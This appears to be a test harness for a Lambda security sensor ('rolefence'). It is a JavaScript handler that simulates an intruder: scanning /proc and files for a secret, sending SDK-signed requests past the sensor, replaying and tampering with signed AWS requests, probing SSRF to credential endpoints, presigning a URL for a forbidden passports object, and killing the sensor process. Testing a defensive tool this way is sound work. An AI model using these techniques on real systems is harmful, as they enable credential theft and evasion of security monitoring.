import { lstatSync, readdirSync, readFileSync, readlinkSync } from 'node:fs';
import { get, request } from 'node:http';
import { connect } from 'node:tls';
import { DynamoDBClient, GetItemCommand } from '@aws-sdk/client-dynamodb';
import { GetObjectCommand, S3Client } from '@aws-sdk/client-s3';
import { SendMessageCommand, SQSClient } from '@aws-sdk/client-sqs';
import { getSignedUrl } from '@aws-sdk/s3-request-presigner';

/** A function that does what an intruder in its process would do: each attack returns what he got. */
const HELD = { Bucket: 'photo-uploads', Key: 'summer/noon.bmp' };

export async function handler(event) {
  try {
    return await attacks[event.do](event);
  } catch (error) {
    return { error: error.name, message: error.message, status: error.$metadata?.httpStatusCode ?? null };
  }
}

const attacks = {
  async work() {
    const { Body } = await new S3Client({}).send(new GetObjectCommand(HELD));
    return { read: (await Body.transformToByteArray()).length };
  },

  /** Reads whatever /proc shows of every process. `needle` comes backwards, so that this process does not hold it as it is. */
  environ({ needle }) {
    const secret = Buffer.from([...needle].reverse().join(''));
    const found = [];
    const closed = [];
    for (const pid of environment()) {
      for (const file of ['environ', 'cmdline', 'maps']) {
        try {
          if (readFileSync(`/proc/${pid}/${file}`).includes(secret)) found.push({ pid, file, comm: comm(pid) });
        } catch (error) {
          closed.push({ pid, file, code: error.code, comm: comm(pid), command: command(pid) });
        }
      }
      try {
        for (const fd of readdirSync(`/proc/${pid}/fd`)) {
          // Pipes would wait for who writes into them.
          const path = `/proc/${pid}/fd/${fd}`;
          if (isFile(path) && readFileSync(path).includes(secret))
            found.push({ pid, file: `fd/${fd}`, comm: comm(pid) });
        }
      } catch (error) {
        closed.push({ pid, file: 'fd', code: error.code, comm: comm(pid), command: command(pid) });
      }
    }
    for (const path of filesBelow('/tmp').concat(filesBelow('/var/task'))) {
      if (path.endsWith('app.mjs') || path.includes('node_modules')) continue;
      if (readFileSync(path).includes(secret)) found.push({ file: path });
    }
    return { found, closed, user: process.getuid() };
  },

  /** Opens its own socket to AWS, past the sensor, and signs with what it holds. */
  async outside({ port }) {
    const client = new DynamoDBClient({});
    let head = null;
    client.middlewareStack.addRelativeTo(
      () => async (args) => {
        head = args.request;
        throw new Error('not by the SDK');
      },
      { relation: 'after', toMiddleware: 'httpSigningMiddleware', name: 'seen' },
    );
    await client.send(new GetItemCommand({ TableName: 'Images', Key: { image: { S: 'x' } } })).catch(() => {});
    const lines = Object.entries(head.headers).map(([name, value]) => `${name}: ${value}\r\n`);
    return {
      answer: await raw(
        port,
        head.hostname,
        `POST / HTTP/1.1\r\n${lines.join('')}connection: close\r\n\r\n${head.body}`,
      ),
    };
  },

  /** Sends what the SDK has signed, and the same bytes once more. */
  async again() {
    const client = new DynamoDBClient({ maxAttempts: 1 });
    let answers = 0;
    client.middlewareStack.addRelativeTo(
      (next) => async (args) => {
        await next(args);
        answers++;
        return next(args);
      },
      { relation: 'after', toMiddleware: 'httpSigningMiddleware', name: 'again' },
    );
    return client
      .send(new GetItemCommand({ TableName: 'Images', Key: { image: { S: 'x' } } }))
      .then(() => ({ answers: answers + 1 }))
      .catch((error) => ({ answers, error: error.name, message: error.message }));
  },

  /** Signs as of an hour ago: what a capture of an earlier request would be. */
  async replay() {
    const old = new DynamoDBClient({ systemClockOffset: -3_600_000, maxAttempts: 1 });
    return { got: await old.send(new GetItemCommand({ TableName: 'Images', Key: { image: { S: 'x' } } })) };
  },

  /** Changes the request after the SDK has signed it. */
  async tamper() {
    const client = new SQSClient({ maxAttempts: 1 });
    client.middlewareStack.addRelativeTo(
      (next) => (args) => {
        args.request.body = args.request.body.replace('harmless', 'harmful!');
        return next(args);
      },
      { relation: 'after', toMiddleware: 'httpSigningMiddleware', name: 'tamper' },
    );
    return { got: await client.send(new SendMessageCommand({ QueueUrl: process.env.QUEUE, MessageBody: 'harmless' })) };
  },

  async 'real-key'({ accessKeyId }) {
    const { AWS_SECRET_ACCESS_KEY: secretAccessKey, AWS_SESSION_TOKEN: sessionToken } = process.env;
    const client = new S3Client({ credentials: { accessKeyId, secretAccessKey, sessionToken }, maxAttempts: 1 });
    return { got: Boolean(await client.send(new GetObjectCommand(HELD))) };
  },

  /** What a fetcher of URLs can be made to do. */
  async ssrf() {
    const port = process.env.ROLEFENCE_SENSOR_PORT;
    const answers = [];
    for (const path of ['/presign', '/credentials', '/latest/meta-data/iam/security-credentials/']) {
      answers.push(await plain(get, { host: '127.0.0.1', port, path, agent: false }));
    }
    const body = JSON.stringify({ url: 'https://photo-uploads.s3.amazonaws.com/a' });
    const headers = { 'content-type': 'application/json', 'content-length': body.length };
    answers.push(
      await plain(request, { host: '127.0.0.1', port, path: '/presign', method: 'POST', agent: false, headers }, body),
    );
    return { answers };
  },

  async presign() {
    const url = await getSignedUrl(new S3Client({}), new GetObjectCommand(HELD));
    const forbidden = await getSignedUrl(
      new S3Client({}),
      new GetObjectCommand({ Bucket: 'identity-documents', Key: 'passports/1043' }),
    )
      .then((stolen) => ({ stolen }))
      .catch((error) => ({ error: error.name, message: error.message }));
    return { url, forbidden };
  },

  kill() {
    let killed = 0;
    for (const pid of environment()) {
      if (!command(pid).includes('/opt/rolefence/main.mjs')) continue;
      process.kill(Number(pid), 'SIGUSR1');
      process.kill(Number(pid), 'SIGKILL');
      killed++;
    }
    return { killed };
  },
};

const read = (path) => {
  try {
    return readFileSync(path, 'latin1');
  } catch {
    return '';
  }
};
const comm = (pid) => read(`/proc/${pid}/comm`).trim();
const command = (pid) => read(`/proc/${pid}/cmdline`).replaceAll('\0', ' ').trim();

/** The processes of this environment: on Lambda there are no others, here those below the same emulator. */
function environment() {
  const emulator = ancestors(process.pid).find((pid) => comm(pid) === 'rie');
  const all = readdirSync('/proc').filter((name) => /^\d+$/.test(name));
  return all.filter((pid) => pid === emulator || ancestors(pid).includes(emulator));
}

function ancestors(pid) {
  const found = [];
  for (let at = pid; at !== undefined && at !== '0'; at = /^PPid:\s*(\d+)/m.exec(read(`/proc/${at}/status`))?.[1])
    found.push(`${at}`);
  return found;
}

/** Of a descriptor: true for what can be read to its end. */
function isFile(path) {
  try {
    return !/^(?:pipe|socket|anon_inode):|^\/(?:dev|proc)\//.test(readlinkSync(path));
  } catch {
    return false;
  }
}

function filesBelow(folder) {
  try {
    return readdirSync(folder, { withFileTypes: true }).flatMap((entry) => {
      const path = `${folder}/${entry.name}`;
      if (entry.name === 'node_modules') return [];
      return entry.isDirectory() ? filesBelow(path) : lstatSync(path).isFile() ? [path] : [];
    });
  } catch {
    return [];
  }
}

function plain(method, options, body) {
  return new Promise((resolve) => {
    method(options, (response) => {
      let text = '';
      response.on('data', (part) => {
        text += part;
      });
      response.on('end', () => resolve({ status: response.statusCode, text }));
    })
      .on('error', (error) => resolve({ error: error.code }))
      .end(body);
  });
}

function raw(port, servername, bytes) {
  return new Promise((resolve) => {
    const socket = connect({ host: '127.0.0.1', port, servername, rejectUnauthorized: false }, () =>
      socket.write(bytes),
    );
    let text = '';
    socket.on('data', (part) => {
      text += part;
    });
    socket.on('close', () => resolve(text.split('\r\n')[0]));
    socket.on('error', (error) => resolve(error.code));
  });
}
